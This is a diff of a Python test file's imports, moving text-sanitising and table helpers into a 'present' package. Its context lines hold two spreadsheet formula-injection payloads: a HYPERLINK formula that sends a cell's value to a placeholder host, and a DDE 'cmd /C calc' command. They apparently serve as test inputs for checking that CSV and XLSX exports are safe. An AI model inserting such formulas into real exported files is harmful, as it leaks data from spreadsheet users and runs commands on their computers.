@@ -20,9 +20,10 @@ from metrics.catalog import procedure_activity
 from metrics.connection import snapshot
 from metrics.filters import Filters
 from metrics.options import filter_options
+from present.safe_text import markdown_text, plain_figure, plotly_text
+from present.tables import Column, kinds, labelled
 from reports.__main__ import main as reports_main
 from reports.header import HeaderBlock, header_block
-from reports.tables import Column, kinds, labelled
 from reports.writers import csv_bytes, xlsx_bytes
 from tests.exports import (
     CATALOG_HEADER,
@@ -32,7 +33,6 @@ from tests.exports import (
     table,
     write_csv,
 )
-from ui.safe_text import markdown_text, plain_figure, plotly_text
 
 FORMULA_NAME = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
 FORMULA_FIELD = "+cmd|' /C calc'!A0"
